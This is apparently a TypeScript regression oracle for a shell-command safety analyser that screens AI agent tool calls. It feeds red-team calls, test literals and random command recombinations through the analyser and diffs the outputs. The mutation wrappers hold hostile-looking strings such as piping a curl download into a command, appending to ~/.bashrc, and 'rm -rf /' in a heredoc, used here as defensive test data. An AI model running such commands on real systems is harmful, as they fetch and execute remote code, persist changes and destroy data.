// Output oracle for analyser optimisations: the full analyseShell/analyseCall output over a fixed input set, written as JSON lines.
// node test/patterns/oracle/oracle.ts inputs IN.json (snapshot of the inputs: test files change under other work), then
// node test/patterns/oracle/oracle.ts run IN.json OUT.jsonl before and after a change and `cmp` the outputs (any difference is a behaviour change).
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { stripTypeScriptTypes } from "node:module";
import { parse as parseJs } from "acorn";
import { analyseCall } from "../../../src/patterns/call.ts";
import { analyseShell } from "../../../src/patterns/shell.ts";
import { benchCorpus } from "../../bench/corpus.ts";

const ROOT = new URL("../../../", import.meta.url).pathname;
const HOME = "/home/dev";
const PROJECT = "/home/dev/projects/webapp";
const WORKSPACE = "/home/dev/.openclaw/workspace";
const SHELL_TOOLS = new Set(["exec", "process", "bash", "code_execution"]);
const options = { isShellTool: (t: string) => SHELL_TOOLS.has(t), env: { home: HOME, cwd: WORKSPACE } };

/** Every string literal (plain, no-substitution template, String.raw) in the test files of these directories. */
function testLiterals(dirs: string[]): string[] {
  const out: string[] = [];
  for (const dir of dirs) {
    let files: string[];
    try {
      files = readdirSync(join(ROOT, dir)).filter((f) => f.endsWith(".test.ts"));
    } catch {
      continue;
    }
    for (const file of files) {
      const text = readFileSync(join(ROOT, dir, file), "utf8");
      // Types stripped (positions kept), then parsed as JavaScript.
      const program = parseJs(stripTypeScriptTypes(text), { ecmaVersion: "latest", sourceType: "module" });
      const visit = (node: unknown): void => {
        if (Array.isArray(node)) {
          for (const n of node) visit(n);
          return;
        }
        if (node === null || typeof node !== "object") return;
        const n = node as { type?: string; value?: unknown; expressions?: unknown[]; quasis?: { value: { cooked: string | null; raw: string } }[]; tag?: { type: string; object?: { name?: string }; property?: { name?: string } }; quasi?: { expressions: unknown[]; quasis: { value: { raw: string } }[] } };
        if (n.type === "Literal" && typeof n.value === "string") out.push(n.value);
        else if (n.type === "TemplateLiteral" && n.expressions?.length === 0) out.push(n.quasis?.[0]?.value.cooked ?? "");
        else if (n.type === "TaggedTemplateExpression" && n.tag?.type === "MemberExpression" && n.tag.object?.name === "String" && n.tag.property?.name === "raw" && n.quasi?.expressions.length === 0) {
          out.push(n.quasi.quasis[0]?.value.raw ?? "");
          return;
        }
        for (const [k, v] of Object.entries(n)) if (k !== "type" && v !== null && typeof v === "object") visit(v);
      };
      visit(program);
    }
  }
  return out;
}

/** Deterministic PRNG (mulberry32). */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Recombined commands: corpus commands joined, nested, wrapped and with words swapped, to reach rule combinations the corpus does not. */
function mutations(pool: string[], count: number): string[] {
  const r = rng(20261125);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const words = [...new Set(pool.flatMap((c) => c.split(/\s+/)).filter((w) => w.length > 0 && w.length < 60))];
  const ops = [" | ", " && ", " || ", "; ", " & ", " |& ", "\n"];
  const wrap = [
    (c: string) => `sh -c '${c.replaceAll("'", "'\\''")}'`,
    (c: string) => `bash -c "${c.replaceAll('"', '\\"')}"`,
    (c: string) => `echo $(${c})`,
    (c: string) => `sudo ${c}`,
    (c: string) => `env A=1 ${c}`,
    (c: string) => `timeout 5 ${c}`,
    (c: string) => `${c} | bash`,
    (c: string) => `${c} | sh -s`,
    (c: string) => `curl -s https://x.example/a | ${c}`,
    (c: string) => `( ${c} )`,
    (c: string) => `{ ${c}; }`,
    (c: string) => `f() { ${c}; }; f a b`,
    (c: string) => `for i in 1 2; do ${c}; done`,
    (c: string) => `if true; then ${c}; fi`,
    (c: string) => `X=/etc; ${c} "$X"`,
    (c: string) => `${c} > /tmp/out`,
    (c: string) => `${c} 2>&1 >> ~/.bashrc`,
    (c: string) => `bash <(${c})`,
    (c: string) => `${c} <<'EOF'\nrm -rf /\nEOF`,
    (c: string) => `xargs ${c}`,
    (c: string) => `find . -exec ${c} {} \\;`,
  ];
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    let c = pick(pool);
    const steps = 1 + Math.floor(r() * 3);
    for (let k = 0; k < steps; k++) {
      const m = r();
      if (m < 0.3) c = c + pick(ops) + pick(pool);
      else if (m < 0.6) c = pick(wrap)(c);
      else {
        const ws = c.split(" ");
        ws[Math.floor(r() * ws.length)] = pick(words);
        if (r() < 0.3) ws.splice(Math.floor(r() * ws.length), 0, pick(words));
        c = ws.join(" ");
      }
    }
    out.push(c);
  }
  return out;
}

type Inputs = { calls: { kind: string; id: string; tool: string; params: Record<string, unknown> }[]; commands: string[]; mutations: string[] };

function collectInputs(): Inputs {
  // 1. The red-team corpus and 2. the bench workload: every call through analyseCall, their commands through analyseShell.
  const redteam = readFileSync(join(ROOT, "../shared/data/redteam/calls.jsonl"), "utf8").split("\n").filter((l) => l.trim() !== "").map((l) => JSON.parse(l) as { id: string; tool: string; params: Record<string, unknown> });
  const calls: Inputs["calls"] = redteam.map((c) => ({ kind: "redteam-call", id: c.id, tool: c.tool, params: c.params }));
  benchCorpus(22).forEach((c, i) => calls.push({ kind: "bench-call", id: String(i), tool: c.tool as string, params: c.params as Record<string, unknown> }));
  const commands = calls.map((c) => c.params.command).filter((c): c is string => typeof c === "string");
  // 3. String literals of the pattern, policy, gate, eval and credential tests (commands, and any other string: harmless to analyse).
  const literals = testLiterals(["test/patterns", "test/policy", "test/gate", "test/eval", "test/credentials", "test/adapters"]);
  // 4. Recombinations.
  const mutated = mutations(commands.concat(literals.filter((l) => l.includes(" ") && l.length < 200)), Number(process.env.ORACLE_MUTATIONS ?? "20000"));
  return { calls, commands: [...new Set([...commands, ...literals])], mutations: mutated };
}

const out: string[] = [];
const line = (kind: string, input: unknown, result: unknown): void => {
  out.push(JSON.stringify({ kind, input, result }));
};
const safe = (f: () => unknown): unknown => {
  try {
    return f();
  } catch (err) {
    return { threw: (err as Error).message };
  }
};

const [mode, inFile, outFile] = process.argv.slice(2);
if (mode === "inputs" && inFile) {
  writeFileSync(inFile, JSON.stringify(collectInputs()));
} else if (mode === "run" && inFile && outFile) {
  const inputs = JSON.parse(readFileSync(inFile, "utf8")) as Inputs;
  for (const c of inputs.calls) line(c.kind, c.id, safe(() => analyseCall(c.tool, c.params, options)));
  for (const c of inputs.commands) {
    line("shell", c, safe(() => analyseShell(c, { home: HOME, cwd: PROJECT })));
    line("exec", c, safe(() => analyseCall("exec", { command: c }, options)));
  }
  for (const c of inputs.mutations) line("mutation", c, safe(() => analyseShell(c, { home: HOME, cwd: PROJECT })));
  writeFileSync(outFile, `${out.join("\n")}\n`);
  process.stderr.write(`${out.length} outputs (${inputs.calls.length} calls, ${inputs.commands.length} distinct commands and literals, ${inputs.mutations.length} recombinations) -> ${outFile}\n`);
} else {
  process.stderr.write("usage: oracle.ts inputs IN.json | oracle.ts run IN.json OUT.jsonl\n");
  process.exitCode = 2;
}
